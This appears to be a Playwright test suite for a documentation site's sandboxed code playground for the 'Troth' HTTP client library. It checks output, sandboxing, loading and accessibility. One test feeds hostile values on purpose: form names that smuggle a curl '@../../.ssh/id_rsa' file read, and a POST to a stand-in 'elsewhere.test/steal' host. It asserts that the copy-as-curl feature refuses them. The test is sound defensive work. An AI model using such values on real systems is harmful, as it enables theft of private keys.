// The playground in a real browser, under the site's strict policy: every starting point
// prints what is recorded, hostile programs end in words, links never run by themselves.

import { deflateRawSync } from 'node:zlib'
import { expect, type Locator, type Page } from '@playwright/test'
import { expectAccessibleContent } from './axe.js'
import { BUSY, HOSTILE_KINDS, HOSTILE_PROGRAMS } from './hostilePrograms.js'
import { hydrated, openHydrated } from './hydrated.js'
import { test } from './test.js'

const ESM = '/docs/playground/esm'
const CJS = '/docs/playground/cjs'
const PAGES = [
  [ESM, 'esm'],
  [CJS, 'cjs'],
] as const
const STARTING_POINTS = [
  'first-request',
  'typed-result',
  'error-as-value',
  'retry',
  'timeout',
  'cancel',
  'token-refresh',
  'upload',
]

const block = (page: Page, name: string) => page.locator(`.playground[data-name="${name}"]`)
// Each has the name of its program, too.
const button = (place: Locator, name: string) =>
  place.getByRole('button', { name: new RegExp(`^${name}( |$)`) })
/** What came of the latest run: its output, its end and its requests, not the code. */
const results = (place: Locator) => place.locator('[data-run-state=over]')
const output = (place: Locator) => place.getByRole('log', { name: 'Output' })

/** Notes every request of a page, its frames and their workers that does not go to the site. */
function foreignRequests(page: Page): string[] {
  const foreign: string[] = []
  const site = new URL(page.url()).host
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (/^(?:http|ws)s?:$/.test(protocol) && host !== site) foreign.push(request.url())
  })
  // Told of, and never sent.
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') foreign.splice(foreign.indexOf(request.url()), 1)
  })
  page.on('websocket', (socket) => foreign.push(socket.url()))
  return foreign
}

const SHELL_FILES = /\/assets\/(?:react|shell)-[^/]*\.js$/
const APP_FILES = /\/assets\/app-[^/]*\.js(?:\?|$)/

/** Holds files back until the returned function is called, and then sends them or fails. */
async function holdFiles(page: Page, files: RegExp): Promise<(how?: 'continue' | 'abort') => void> {
  let release: (how: 'continue' | 'abort') => void
  const released = new Promise<'continue' | 'abort'>((resolve) => {
    release = resolve
  })
  await page.route(files, async (route) => route[await released]())
  return (how = 'continue') => release(how)
}

/** Holds hydration back in the next document, with the shell's code already run, until the returned function is called. */
async function holdHydration(page: Page): Promise<() => Promise<void>> {
  await page.addInitScript(() => {
    const { scheduler } = window as unknown as { scheduler: { yield: () => Promise<unknown> } }
    // The shell yields to the browser once before it hydrates. It may do that after the event as well as before.
    const released = new Promise((resolve) => addEventListener('test:hydrate', resolve, { once: true }))
    scheduler.yield = () => released
  })
  return () => page.evaluate(() => void dispatchEvent(new Event('test:hydrate')))
}

/** What the page reports as broken; what a program throws belongs to its own console. */
function pageErrors(page: Page): string[] {
  const errors: string[] = []
  page.on('pageerror', (error) => errors.push(error.message))
  return errors
}

interface Shared {
  readonly name?: string
  readonly code: string
  readonly conditions?: object
}

/** A URL that opens a program. */
function linkTo(path: string, { name = 'first-request', code, conditions }: Shared): string {
  const calm = { latency: 0, jitter: 0, statuses: [], fault: 'none' }
  const json = JSON.stringify({ name, code, conditions: { ...calm, ...conditions } })
  return `${path}#play=${deflateRawSync(json).toString('base64url')}`
}

/** Opens a program in the first playground of a page. */
async function openProgram(page: Page, path: string, shared: Shared): Promise<Locator> {
  await page.goto('about:blank')
  await openHydrated(page, linkTo(path, shared))
  const place = block(page, 'first-request')
  await expect(place.getByText('Opened from a link.').first()).toBeVisible()
  return place
}

interface HostileRun {
  /** How often a timer of the page was called during the run. */
  readonly beats: number
  /** The longest time for which it was not called, in milliseconds. */
  readonly longestPause: number
  /** What stood among the results. */
  readonly results: string
  /** URL and storage, before and after. */
  readonly before: string
  readonly after: string
  /** Of the sample, which is run after a reset. */
  readonly output: string
  /** Whether the block still said that it was opened from a link. */
  readonly isOpened: boolean
}

/**
 * Opens a program in the first playground of the page that is shown, by a link to it, runs it, resets, and runs the
 * sample. Runs in the page: presses with the pointer, which other tests do, lay out a long page several times each.
 */
async function runHostile(url: string): Promise<HostileRun> {
  const block = document.querySelector<HTMLElement>('.playground[data-name="first-request"]')!
  const press = (name: string) =>
    [...block.querySelectorAll('button')].find(({ textContent }) => textContent === name)!.click()
  const textOf = (selector: string) => block.querySelector<HTMLElement>(selector)?.textContent ?? ''
  const isOpened = () => block.textContent!.includes('Opened from a link.')
  const isOver = () => block.querySelector('[data-run-state=over]') !== null
  const state = () => JSON.stringify([location.href, localStorage])
  const until = (isSo: () => boolean) =>
    new Promise<void>((resolve) => {
      const look = () => {
        if (!isSo()) return
        observer.disconnect()
        resolve()
      }
      const observer = new MutationObserver(look)
      observer.observe(block, { subtree: true, childList: true, characterData: true, attributes: true })
      look()
    })

  location.assign(url)
  await until(isOpened)
  // A reader takes longer to press: the next worker is being started, which is not what is measured.
  await new Promise((resolve) => requestIdleCallback(resolve))
  const before = state()
  const started = performance.now()
  let [last, longestPause, beats] = [started, 0, 0]
  const beat = () => {
    beats++
    const now = performance.now()
    longestPause = Math.max(longestPause, now - last)
    last = now
  }
  const pulse = setInterval(beat, 20)
  press('Run')
  await until(isOver)
  beat()
  clearInterval(pulse)
  const results = textOf('[data-run-state=over]')
  const after = state()
  press('Reset')
  // The buttons follow in a moment.
  await until(() => !isOver())
  press('Run')
  await until(isOver)
  return { beats, longestPause, results, before, after, output: textOf('[role=log]'), isOpened: isOpened() }
}

for (const path of [ESM, CJS]) {
  const title = `every starting point of ${path} prints what is recorded, and nothing leaves the site`
  test(title, { tag: '@exhaustive' }, async ({ page }) => {
    // With motion in one and without in the other: the timeline grows, or appears at the end of a request.
    await page.emulateMedia({ reducedMotion: path === ESM ? 'no-preference' : 'reduce' })
    await openHydrated(page, path)
    const foreign = foreignRequests(page)
    const errors = pageErrors(page)
    const recorded = await page.evaluate(
      (names) =>
        names.map((name) => {
          const outputs = document.querySelectorAll(`.playground[data-name="${name}"] .vl-code code`)
          return [...outputs].at(-1)!.textContent!.trimEnd()
        }),
      STARTING_POINTS,
    )
    for (const [i, name] of STARTING_POINTS.entries()) {
      const place = block(page, name)
      await button(place, 'Run').click()
      await expect(place.getByText(/^Finished in .*\brequests?\.$/), name).toBeVisible()
      expect((await output(place).textContent())!.trimEnd(), name).toBe(recorded[i])
      // What was asked of the network is drawn.
      await expect(place.locator('section', { hasText: 'Requests' }).locator('svg'), name).toBeVisible()
    }
    expect(foreign).toEqual([])
    expect(errors).toEqual([])
  })
}

// Many programs on one visit: each leaves a playground that the next one can use.
for (const [path, format] of PAGES) {
  for (const kind of HOSTILE_KINDS) {
    const programs = HOSTILE_PROGRAMS.filter((program) => program.kind === kind).filter(
      ({ code, inBoth = typeof code !== 'string' }) => inBoth || path === ESM,
    )
    const title = `survives programs ${kind} (${format}): ${programs.map(({ name }) => name).join(', ')}`
    // What fails in a way of its own in both formats is one of each kind; the page of ES modules has all programs.
    const tag = path === CJS && kind === 'without end' ? [] : '@exhaustive'
    test(title, { tag }, async ({ page }) => {
      const errors = pageErrors(page)
      await openHydrated(page, path)
      const foreign = foreignRequests(page)
      for (const { name, code, says } of programs) {
        await test.step(name, () =>
          expectSurvived(page, { path, code: typeof code === 'string' ? code : code[format], says }),
        )
        expect(foreign, name).toEqual([])
        expect(errors, name).toEqual([])
      }
    })
  }
}

/** Runs a hostile program, then the sample: the end in words, the page untouched and not blocked, the playground alive. */
async function expectSurvived(
  page: Page,
  { path, code, says }: { path: string; code: string; says: RegExp },
): Promise<void> {
  let run = await page.evaluate(runHostile, linkTo(path, { code }))
  // On a busy machine a program that ends may need more than the second that it has.
  while (!says.test(run.results) && BUSY.test(run.results)) {
    await page.goto('about:blank')
    await openHydrated(page, path)
    run = await page.evaluate(runHostile, linkTo(path, { code }))
  }
  expect(run.results).toMatch(says)
  // A page that the program blocks does not respond until the end. On a busy machine a pause may be long, but it ends.
  if (run.longestPause > 600) expect(run.beats, 'times the page has responded').toBeGreaterThan(4)
  expect(run.after).toBe(run.before)
  expect(run.output).toContain('200 Ada Lovelace')
  expect(run.isOpened).toBe(false)
}

test('without JavaScript the samples and their recorded outputs are there, and no button', {
  tag: '@exhaustive',
}, async ({ browser }) => {
  const context = await browser.newContext({ javaScriptEnabled: false })
  const page = await context.newPage()
  await page.goto(ESM)
  for (const name of STARTING_POINTS) {
    await expect(block(page, name).locator('.vl-code')).toHaveCount(2)
    await expect(button(block(page, name), 'Run')).toBeHidden()
  }
  await context.close()
})

test('a link opens code and network, and never runs by itself', async ({ page }) => {
  const code = `import { createClient } from 'troth'
const { attempts } = await createClient({ baseUrl: 'https://api.example.com/v1', retry: 2 }).getAsync('users/7')
console.log('from a link', attempts)
`
  const place = await openProgram(page, ESM, { code, conditions: { statuses: [503, 503], retryAfter: 0 } })
  await expect(place.getByText('503 → 503')).toBeVisible()
  // What would run it has been loaded.
  await page.waitForLoadState('networkidle')
  await expect(output(place)).toBeHidden()

  await button(place, 'Run').click()
  await expect(output(place)).toHaveText('from a link 3')
})

for (const [url, load] of [
  [ESM, (names: string, module: string) => `import { ${names} } from '${module}'`],
  [CJS, (names: string, module: string) => `const { ${names} } = require('${module}')`],
] as const) {
  test(`the entries of Troth can be loaded: ${url}`, { tag: '@exhaustive' }, async ({ page }) => {
    const code = `${load('createClient', 'troth')}
${load('basic', 'troth/auth')}
${load('dedupe', 'troth/fetch')}
${load('createMock', 'troth/mock')}
${load('createApi', 'troth/openapi')}
${load('progressFetch', 'troth/progress')}
${load('subscribe', 'troth/sse')}
async function main() {
  const baseUrl = 'https://api.example.com/v1'
  const mock = createMock({ 'GET /v1/users/:id': ({ params }) => ({ id: Number(params.id) }) })
  console.log('mock', (await createClient({ baseUrl, fetch: mock.fetch }).getAsync('users/8')).data.id)
  console.log('fetch', (await createApi(createClient({ baseUrl, fetch: dedupe(), ...basic('a', 'b') })).getAsync('/users/{id}', { path: { id: 7 } })).data.id)
  let ratio
  const fetch = progressFetch({ onDownloadProgress: (progress) => { ratio = progress.ratio } })
  await createClient({ baseUrl, fetch }).getAsync('users/7')
  console.log('progress', ratio)
  for await (const { id } of subscribe(createClient({ baseUrl }), 'notifications')) {
    console.log('event', id)
    break
  }
}
main()
`
    const place = await openProgram(page, url, { code })
    await button(place, 'Run').click()
    await expect(output(place)).toContainText(/mock 8\s*fetch 7\s*progress 1\s*event \d+/)
  })
}

test('a damaged link shows an error', { tag: '@exhaustive' }, async ({ page }) => {
  await openHydrated(page, `${ESM}#play=nonsense`)
  await expect(block(page, 'first-request').getByText(/link/i).first()).toBeVisible()
})

test('a shared link restores code and network', { tag: '@exhaustive' }, async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await openHydrated(page, ESM)
  const place = block(page, 'first-request')
  await place.locator('pre').first().click()
  const editor = place.getByRole('textbox', { name: 'Code of first-request.ts' })
  await editor.press('ControlOrMeta+a')
  await page.keyboard.insertText(`console.log('shared')`)
  await button(place, 'Share').click()
  await expect(button(place, 'Link copied')).toBeVisible()
  const link = await page.evaluate(() => navigator.clipboard.readText())
  expect(new URL(link).hash).toMatch(/^#play=/)

  await page.goto('about:blank')
  await openHydrated(page, link)
  await button(place, 'Run').click()
  await expect(output(place)).toHaveText('shared')
})

test('runs from the keyboard alone, and Tab leaves the editor', { tag: '@exhaustive' }, async ({ page }) => {
  await openHydrated(page, ESM)
  const place = block(page, 'first-request')
  await place.locator('pre').first().focus()
  await page.keyboard.press('Enter')
  const editor = place.getByRole('textbox', { name: 'Code of first-request.ts' })
  await expect(editor).toBeFocused()
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.insertText(`console.log('typed')\nconsole.log(missing)`)
  await page.keyboard.press('ControlOrMeta+Enter')
  await expect(output(place)).toHaveText('typed')
  await expect(place).toContainText('missing is not defined')
  await expect(editor).toBeFocused()
  await page.keyboard.press('Tab')
  await expect(editor).not.toBeFocused()
})

test('the network applies its conditions, and the request can be inspected', { tag: '@exhaustive' }, async ({
  page,
}) => {
  await openHydrated(page, ESM)
  const place = block(page, 'first-request')
  await button(place, 'Run').click()
  await expect(output(place)).toContainText('201 13')
  const post = place.locator('details', { hasText: 'POST /v1/users' })
  await post.locator('summary').click()
  await expect(post).toContainText('content-type: application/json')
  await expect(post).toContainText('"name": "Katherine Johnson"')
  await expect(post).toContainText('curl https://api.example.com/v1/users \\')

  await place.getByText(/^Network/).click()
  await place.getByLabel('Statuses').fill('503')
  await button(place, 'Run').click()
  await expect(place).toContainText('GET https://api.example.com/v1/users/7 failed: 503')
  await place.getByLabel('Statuses').fill('nine')
  await page.keyboard.press('Tab')
  await expect(place).toContainText('is not a status')
})

test('a request with hostile values is safe as a copied command', { tag: '@exhaustive' }, async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const code = `const form = new FormData()
form.set('key', new File(['x'], '../../.ssh/id_rsa', { type: 'text/plain,../../.ssh/id_rsa' }))
await fetch('https://api.example.com/v1/echo', { method: 'POST', body: form })
const named = new FormData()
named.set('a=@../../.ssh/id_rsa;x', new File(['x'], 'x.txt'))
await fetch('https://api.example.com/v1/echo', { method: 'POST', body: named })
await fetch('https://elsewhere.test/steal', { method: 'POST', body: form }).catch(() => {})
`
  const place = await openProgram(page, ESM, { code })
  await button(place, 'Run').click()
  const exchanges = results(place).locator('details')
  await expect(exchanges).toHaveCount(3)
  for (const exchange of await exchanges.all()) await exchange.locator('summary').click()

  await button(exchanges.nth(0), 'Copy as curl').click()
  await expect(button(exchanges.nth(0), 'Copied')).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    `curl https://api.example.com/v1/echo \\\n  --form 'key=@id_rsa;type=application/octet-stream'`,
  )
  await expect(exchanges.nth(1)).toContainText(
    'No curl command: the request has characters that are not safe in a terminal.',
  )
  await expect(exchanges.nth(2)).toContainText(
    'No curl command: only https://api.example.com exists in the playground.',
  )
  await expect(button(results(place), 'Copy as curl')).toHaveCount(0)
})

test('a Run pressed before hydration runs once the playground is loaded', { tag: '@exhaustive' }, async ({
  page,
}) => {
  const releaseShell = await holdFiles(page, SHELL_FILES)
  const releaseApp = await holdFiles(page, APP_FILES)
  await page.goto(ESM)
  const place = block(page, 'first-request')
  await button(place, 'Run').click()
  releaseShell()
  await hydrated(page)
  releaseApp()
  await expect(results(place).getByRole('log')).toContainText('201 13')
})

// The home page is one of React, whose elements must be as served until it is hydrated.
for (const [path, name] of [
  [ESM, 'first-request'],
  ['/', 'sample-2'],
] as const) {
  test(`a link to a program of ${path} waits for hydration`, { tag: '@exhaustive' }, async ({ page }) => {
    const errors = pageErrors(page)
    const releaseHydration = await holdHydration(page)
    const loaded = page.waitForResponse(APP_FILES)
    await page.goto(linkTo(path, { name, code: `console.log('from a link')` }))
    await loaded
    await releaseHydration()
    await hydrated(page)
    await expect(page.getByText('Opened from a link.').first()).toBeVisible()
    const place = page.locator('.playground').filter({ has: page.getByRole('textbox', { name: /^Code of/ }) })
    await expect(place.getByRole('textbox', { name: /^Code of/ })).toContainText('from a link')
    await button(place, 'Run').click()
    await expect(output(place)).toHaveText('from a link')
    expect(errors).toEqual([])
  })
}

test('a playground that loads for more than 300 ms shows that', { tag: '@exhaustive' }, async ({ page }) => {
  await openHydrated(page, ESM)
  const releaseApp = await holdFiles(page, APP_FILES)
  await page.clock.install({ time: 0 })
  await page.clock.pauseAt(10_000)
  const place = block(page, 'first-request')
  const run = place.locator('[data-run]')
  const status = place.getByRole('status')
  await run.click()
  await page.clock.runFor(299)
  expect(await run.getAttribute('aria-busy')).toBeNull()
  expect(await status.textContent()).toBe('Runs in this page; nothing is sent.')
  await page.clock.runFor(1)
  expect(await run.getAttribute('aria-busy')).toBe('true')
  expect(await status.textContent()).toBe('Loading…')
  const motion = () => status.evaluate((note) => getComputedStyle(note, '::before').animationName)
  expect(await motion()).toBe('playground-turn')
  await page.emulateMedia({ reducedMotion: 'reduce' })
  expect(await motion()).toBe('none')
  await page.clock.resume()
  await expectAccessibleContent(page)

  releaseApp()
  await expect(results(place).getByRole('log')).toContainText('201 13')
  await expect(place.locator('[aria-busy]')).toHaveCount(0)
  await expect(place.getByText('Loading…')).toHaveCount(0)
})

test('Retry repeats a run whose playground could not be loaded', { tag: '@exhaustive' }, async ({ page }) => {
  await openHydrated(page, ESM)
  await page.route(APP_FILES, (route) => route.abort())
  const place = block(page, 'first-request')
  await button(place, 'Run').click()
  await expect(place.getByRole('status')).toHaveText('Could not be loaded.')
  await expectAccessibleContent(page)
  await page.unroute(APP_FILES)
  await button(place, 'Retry').focus()
  await page.keyboard.press('Enter')
  await expect(results(place).getByRole('log')).toContainText('201 13')
  await expect(button(place, 'Run')).toBeFocused()
})

test('Retry repeats all keys, and loads styles that failed', { tag: '@exhaustive' }, async ({ page }) => {
  await openHydrated(page, ESM)
  const styles = /\/assets\/app-[^/]*\.css$/
  const releaseStyles = await holdFiles(page, styles)
  const place = block(page, 'first-request')
  await place.locator('pre').first().focus()
  await page.keyboard.type('abc')
  releaseStyles('abort')
  await expect(place.getByRole('status')).toHaveText('Could not be loaded.')
  await page.unroute(styles)
  await button(place, 'Retry').click()
  const editor = place.getByRole('textbox', { name: 'Code of first-request.ts' })
  await expect(editor).toContainText('abcimport { createClient }')
  await expect(button(place, 'Run')).toHaveCSS('font-weight', '600')
})

test('a playground that could not be loaded twice offers to reload the page', { tag: '@exhaustive' }, async ({
  page,
}) => {
  await openHydrated(page, ESM)
  await page.route(APP_FILES, (route) => route.abort())
  const place = block(page, 'first-request')
  await button(place, 'Run').click()
  await button(place, 'Retry').click()
  await button(place, 'Reload').waitFor()
  await expect(place.getByRole('status')).toHaveText('Could not be loaded.')
  await page.unroute(APP_FILES)
  await Promise.all([page.waitForEvent('load'), button(place, 'Reload').click()])
  await hydrated(page)
  await button(place, 'Run').click()
  await expect(results(place).getByRole('log')).toContainText('201 13')
})

test('loads nothing until it is used, is removed on navigation, and works again on return', {
  tag: '@exhaustive',
}, async ({ page }) => {
  const files: string[] = []
  page.on('request', (request) => files.push(new URL(request.url()).pathname))
  await openHydrated(page, ESM)
  await page.waitForLoadState('networkidle')
  const before = files.length
  // Nor a file for what it shares with the shell.
  expect(files.filter((file) => /playground-frame|\/app-|editor|runtime/i.test(file))).toEqual([])

  await button(block(page, 'first-request'), 'Run').click()
  await expect(output(block(page, 'first-request'))).toContainText('201 13')
  expect(files.slice(before)).toEqual(expect.arrayContaining(['/playground-frame.html']))

  await page.locator('.pagination-nav__link--next, .pagination-nav a').last().click()
  await expect(page).toHaveURL(/cjs$/)
  await expect.poll(() => page.frames().length).toBe(1)
  await button(block(page, 'first-request'), 'Run').click()
  await expect(output(block(page, 'first-request'))).toContainText('200 Ada Lovelace')
})

test('the frame runs nothing in the origin of the site, on hosts without headers', {
  tag: '@exhaustive',
}, async ({ page }) => {
  await page.goto(ESM)
  const frame = await page.request.get('/playground-frame.html')
  const html = await frame.text()
  // As a host serves it that does not know `_headers`.
  await page.route('**/playground-frame.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: html }),
  )
  await page.evaluate(async () => {
    const messages: unknown[] = []
    Object.assign(window, { messages })
    addEventListener('message', ({ data }) => messages.push(data))
    const frame = document.createElement('iframe')
    frame.src = '/playground-frame.html'
    document.body.append(frame)
    await new Promise((loaded) => frame.addEventListener('load', loaded))
  })
  const added = page.frames().at(-1)!
  await added.evaluate(() => {
    const received = new Promise((done) => addEventListener('message', () => setTimeout(done)))
    Object.assign(window, { received })
  })
  await page.evaluate(() => window.frames[window.frames.length - 1]!.postMessage({ type: 'ping' }, '*'))
  await added.evaluate(() => (window as unknown as { received: Promise<void> }).received)
  const messages = await page.evaluate(async () => {
    await new Promise((done) => setTimeout(done))
    return (window as unknown as { messages: unknown[] }).messages
  })
  expect(messages).toEqual([])
  await expect(page.frameLocator('iframe').last().locator('body')).toContainText('sandbox')
})

test('characters typed while the editor is loading keep their order', { tag: '@exhaustive' }, async ({
  page,
  context,
}) => {
  await openHydrated(page, ESM)
  const protocol = await context.newCDPSession(page)
  await protocol.send('Network.emulateNetworkConditions', {
    offline: false,
    latency: 200,
    downloadThroughput: 200_000,
    uploadThroughput: 200_000,
  })
  const place = block(page, 'first-request')
  await place.locator('pre').first().focus()
  await page.keyboard.type('const abc = 12345;')
  const editor = place.getByRole('textbox', { name: 'Code of first-request.ts' })
  await expect(editor).toContainText('const abc = 12345;import { createClient }')
})
